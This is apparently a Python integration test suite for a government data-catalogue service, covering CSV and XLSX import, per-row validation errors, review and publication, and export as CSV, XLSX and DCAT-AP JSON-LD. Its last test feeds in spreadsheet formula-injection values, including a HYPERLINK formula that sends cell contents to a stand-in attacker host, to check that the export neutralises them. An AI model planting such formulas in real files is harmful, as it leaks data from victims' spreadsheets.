"""Import and export through the gateway on real PostgreSQL and Kafka: an agency imports its catalogue from CSV
and XLSX as a job with per-row errors, submits it, the bureau publishes it, and the unified catalogue is exported
as CSV, XLSX and DCAT-AP JSON-LD (A13.1, A14.1, A15.2)."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from dataclasses import dataclass
from typing import Any

import httpx
import pytest
from catalog.imports import CSV, Polled, submit_import
from catalog.imports import import_file as run_import
from dcat_ap import DATASET, DCAT, DCT, EU, FOAF, instances, one, parsed
from dcat_ap import values as rdf_values
from openpyxl import Workbook, load_workbook  # type: ignore[import-untyped]
from rdflib import URIRef

from catalog_svc.transfer.formats import XLSX_TYPE
from catalog_svc.transfer.table import COLUMNS
from harness import CITY, MeshStarter, assert_problem, city_admin, register_agency, register_client

pytestmark = pytest.mark.integration


@dataclass
class World:
    gateway: httpx.AsyncClient
    admin: dict[str, str]
    police: dict[str, Any]
    water: dict[str, Any]
    reviewer: dict[str, str]
    inspector: dict[str, str]


@pytest.fixture
async def world(start_mesh: MeshStarter) -> AsyncIterator[World]:
    async with start_mesh(["catalog", "gateway"]) as mesh, mesh.client("gateway") as gateway:
        admin = await city_admin(mesh, gateway)
        yield World(
            gateway,
            admin,
            await register_agency(gateway, admin, "无锡市公安局"),
            await register_agency(gateway, admin, "无锡市水利局"),
            await register_client(gateway, admin, "operator", ["reviewer"], region=CITY),
            await register_client(gateway, admin, "operator", ["inspector"], region=CITY),
        )


def row(code: str, **values: Any) -> dict[str, Any]:
    """One row of a complete entry; `values` override columns."""
    return {
        "code": code, "region_code": CITY, "name": "常住人口基本信息", "summary": "全市常住人口的基本信息。",
        "classification": "01-02", "category": "base", "base_database": "population",
        "source_system": "人口管理信息系统", "format": "CSV", "share_type": "unconditional", "share_method": "api",
        "open_type": "not_open", "open_legal_basis": "《中华人民共和国个人信息保护法》", "update_cycle": "daily",
        "tags": "人口;户籍", "item_name": "id_number", "item_label": "居民身份证号码", "item_type": "string",
        "item_length": 18, "item_required": "是", "item_key": "是", "item_sensitivity": "highly_sensitive",
        **values,
    }  # fmt: skip


def csv_file(*rows: dict[str, Any]) -> bytes:
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=COLUMNS)
    writer.writeheader()
    writer.writerows(rows)
    return buffer.getvalue().encode()


async def import_file(
    world: World, owner: dict[str, Any], body: bytes, *, content_type: str = CSV, query: str = ""
) -> Polled:
    """The owner's system imports the file; its job, once ended."""
    return await run_import(world.gateway, owner["headers"], body, content_type=content_type, query=query)


def result(total: int, *, created: int = 0, updated: int = 0, unchanged: int = 0, submitted: int = 0,
           refused: int = 0) -> dict[str, int]:  # fmt: skip
    """A job's expected result, every count stated."""
    return {"total": total, "created": created, "updated": updated, "unchanged": unchanged, "submitted": submitted,
            "refused": refused}  # fmt: skip


async def listed(world: World, owner: dict[str, Any], state: str) -> dict[str, str]:
    response = await world.gateway.get(
        "/api/catalog/catalogue", params={"state": state, "agency_id": owner["id"]}, headers=owner["headers"]
    )
    assert response.status_code == 200, response.text
    return {v["code"]: v["entry_id"] for v in response.json()["items"]}


async def test_an_agency_imports_its_catalogue_good_entries_become_drafts_bad_rows_are_reported_A14_1(
    world: World,
) -> None:
    body = csv_file(
        row("01-02/100001"),  # row 2
        row("01-02/100001", item_name="full_name", item_label="姓名", item_key="否", item_length=50),  # row 3
        row("01-02/100002", share_type="sometimes"),  # row 4: bad, so 100002 is not imported
        row(""),  # row 5: no code
        row("01-02/100003", item_length="eighteen"),  # row 6
        row("01-02/100004", name="不动产登记信息"),  # row 7
    )
    job = await import_file(world, world.police, body)
    assert job.result == result(4, created=2, refused=2)
    assert job.rows() == [(4, "share_type"), (5, "code"), (6, "item_length")]
    assert job.job["errors"][0]["code"] == "01-02/100002"
    assert job.job["error_count"] == 3
    assert job.progress[-1] == (4, 4)
    assert set(await listed(world, world.police, "draft")) == {"01-02/100001", "01-02/100004"}

    entry = await world.gateway.get(
        f"/api/catalog/entries/{(await listed(world, world.police, 'draft'))['01-02/100001']}",
        headers=world.police["headers"],
    )
    current = entry.json()["current"]
    assert current["provider_agency_id"] == world.police["id"]
    assert [i["name"] for i in current["items"]] == ["id_number", "full_name"]
    assert current["tags"] == ["人口", "户籍"]


async def test_a_file_with_nothing_importable_fails_its_job_with_a_422_problem_listing_every_row(world: World) -> None:
    job = await import_file(world, world.police, csv_file(row("01-02/100001", update_cycle="hourly")))
    assert job.problem["status"] == 422
    assert job.problem["type"] == "/problems/invalid-input"
    assert [(e["row"], e["field"]) for e in job.problem["errors"]] == [(2, "update_cycle")]
    assert job.rows() == [(2, "update_cycle")]
    header = await import_file(world, world.police, b"code,colour\n01-02/1,red\n")
    assert header.problem["status"] == 422
    assert header.problem["errors"] == [{"row": 1, "field": "colour", "message": "unknown column"}]


async def test_a_body_in_a_type_or_charset_the_import_cannot_read_is_a_415_before_any_job_is_queued(
    world: World,
) -> None:
    body = csv_file(row("01-02/100009"))
    cases = [("text/csv; charset=klingon", "charset", "unknown"),
             ("text/csv; charset=base64", "charset", "not a character set"),
             ("text/csv; charset=unicode_escape", "charset", "not a character set"),
             ("application/json", "format", "cannot tell the format of application/json")]  # fmt: skip
    for content_type, field, message in cases:
        response = await submit_import(world.gateway, world.police["headers"], body, content_type=content_type)
        assert assert_problem(response, 415)["errors"] == [{"field": field, "message": message}]
        assert "location" not in response.headers


async def test_only_the_importing_agency_and_the_bureau_of_its_region_poll_its_job_A4_1_A15_2(world: World) -> None:
    response = await submit_import(world.gateway, world.police["headers"], csv_file(row("01-02/100010")))
    assert response.status_code == 202, response.text
    location = response.headers["location"]
    assert (await world.gateway.get(location, headers=world.inspector)).status_code == 200
    assert (await world.gateway.get(location, headers=world.reviewer)).status_code == 200
    # Another agency's system learns nothing, not even that the job exists.
    assert_problem(await world.gateway.get(location, headers=world.water["headers"]), 404)


async def test_imported_entries_are_submitted_published_and_exported_as_csv_xlsx_and_dcat(world: World) -> None:
    body = csv_file(row("01-02/200001"), row("01-02/200002", summary=None, share_type="conditional"))
    job = await import_file(world, world.police, body, query="?submit=true")
    assert job.result == result(2, created=2, submitted=1)
    # The refused submission names its rules and rows; the entry stays a draft.
    refused = {(e["field"], e["requirement"], e["row"]) for e in job.job["errors"]}
    assert ("summary", "A13.1", 3) in refused
    assert ("share_legal_basis", "A19.2", 3) in refused
    assert set(await listed(world, world.police, "draft")) == {"01-02/200002"}

    entry_id = (await listed(world, world.police, "submitted"))["01-02/200001"]
    approved = await world.gateway.post(f"/api/catalog/entries/{entry_id}/approve", headers=world.reviewer)
    assert approved.status_code == 200, approved.text

    exported = await world.gateway.get("/api/catalog/exports/catalogue?format=csv", headers=world.inspector)
    assert exported.status_code == 200, exported.text
    assert exported.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"))))
    assert [(r["code"], r["item_name"], r["provider_agency"]) for r in rows] == [
        ("01-02/200001", "id_number", "无锡市公安局")
    ]

    workbook = await world.gateway.get(
        "/api/catalog/exports/catalogue", params={"format": "xlsx", "region": CITY}, headers=world.water["headers"]
    )
    assert workbook.status_code == 200, workbook.text
    assert workbook.headers["content-type"] == XLSX_TYPE
    sheet = load_workbook(io.BytesIO(workbook.content), read_only=True).worksheets[0]
    values = list(sheet.iter_rows(values_only=True))
    assert values[0][: len(COLUMNS)] == COLUMNS
    assert values[1][0] == "01-02/200001"
    assert values[1][COLUMNS.index("item_length")] == 18

    jsonld = await world.gateway.get("/api/catalog/exports/catalogue?format=jsonld", headers=world.reviewer)
    assert jsonld.status_code == 200, jsonld.text
    assert jsonld.headers["content-type"] == "application/ld+json"
    graph = parsed(jsonld.content, "json-ld")
    dataset = one(instances(graph, DATASET))
    assert rdf_values(graph, dataset, DCT + "identifier") == {"01-02/200001"}
    publisher = one(graph.objects(dataset, URIRef(DCT + "publisher")))
    assert rdf_values(graph, publisher, FOAF + "name") == {"无锡市公安局"}
    assert rdf_values(graph, dataset, DCT + "accrualPeriodicity") == {EU + "frequency/DAILY"}
    assert rdf_values(graph, dataset, DCT + "accessRights") == {EU + "access-right/NON_PUBLIC"}
    distribution = one(graph.objects(dataset, URIRef(DCAT + "distribution")))
    assert rdf_values(graph, distribution, DCT + "format") == {EU + "file-type/CSV"}
    assert rdf_values(graph, dataset, DCT + "issued")

    # Re-importing the exported catalogue starts no new version of the published entry.
    again = await import_file(world, world.police, exported.content)
    assert again.result == result(1, unchanged=1)
    versions = await world.gateway.get(f"/api/catalog/entries/{entry_id}/versions", headers=world.police["headers"])
    assert [v["state"] for v in versions.json()] == ["published"]
    # A changed one starts the entry's next version, a draft; the published one stays.
    changed = await import_file(world, world.police, csv_file(row("01-02/200001", name="常住人口信息")))
    assert changed.result == result(1, updated=1)
    versions = await world.gateway.get(f"/api/catalog/entries/{entry_id}/versions", headers=world.police["headers"])
    assert [v["state"] for v in versions.json()] == ["published", "draft"]


async def test_an_agency_cannot_import_over_another_agencys_entry_A15_2(world: World) -> None:
    assert (await import_file(world, world.police, csv_file(row("01-02/300001")))).result["created"] == 1
    job = await import_file(world, world.water, csv_file(row("01-02/300001", name="改名")))
    assert job.problem["status"] == 422
    (error,) = job.problem["errors"]
    assert (error["row"], error["requirement"]) == (2, "A15.2")


async def test_an_xlsx_catalogue_imports_like_a_csv_one(world: World) -> None:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(list(COLUMNS))
    sheet.append([row("01-02/400001").get(c) for c in COLUMNS])
    sheet.append([])
    sheet.append([row("01-02/400002", category="nowhere").get(c) for c in COLUMNS])
    data = io.BytesIO()
    workbook.save(data)
    job = await import_file(world, world.water, data.getvalue(), content_type=XLSX_TYPE)
    assert job.result == result(2, created=1, refused=1)
    assert job.rows() == [(4, "category")]


async def test_an_export_of_an_unknown_region_is_not_found(world: World) -> None:
    response = await world.gateway.get("/api/catalog/exports/catalogue?region=999999", headers=world.inspector)
    assert response.status_code == 404


async def test_the_csv_export_neutralises_cells_a_spreadsheet_would_run_and_reimports_unchanged_A28_1(
    world: World,
) -> None:
    typed = {"name": '=HYPERLINK("http://evil.example/?"&A1,"人口")', "summary": "-2+3", "source_system": "@cmd",
             "tags": "+SUM(A1);人口"}  # fmt: skip
    job = await import_file(world, world.police, csv_file(row("01-02/500001", **typed)), query="?submit=true")
    assert job.result["submitted"] == 1, job.job
    entry_id = (await listed(world, world.police, "submitted"))["01-02/500001"]
    assert (await world.gateway.post(f"/api/catalog/entries/{entry_id}/approve", headers=world.reviewer)).is_success

    exported = await world.gateway.get("/api/catalog/exports/catalogue?format=csv", headers=world.inspector)
    (written,) = csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig")))
    # OWASP's CSV-injection guidance: one apostrophe in front; the rest of the value as it was.
    assert {c: written[c] for c in typed} == {
        "name": '\'=HYPERLINK("http://evil.example/?"&A1,"人口")', "summary": "'-2+3", "source_system": "'@cmd",
        "tags": "'+SUM(A1);人口",
    }  # fmt: skip
    assert written["item_length"] == "18"  # numbers stay numbers

    again = await import_file(world, world.police, exported.content)
    assert again.result["unchanged"] == 1, again.job
    entry = await world.gateway.get(f"/api/catalog/entries/{entry_id}", headers=world.police["headers"])
    assert entry.json()["current"]["name"] == typed["name"]
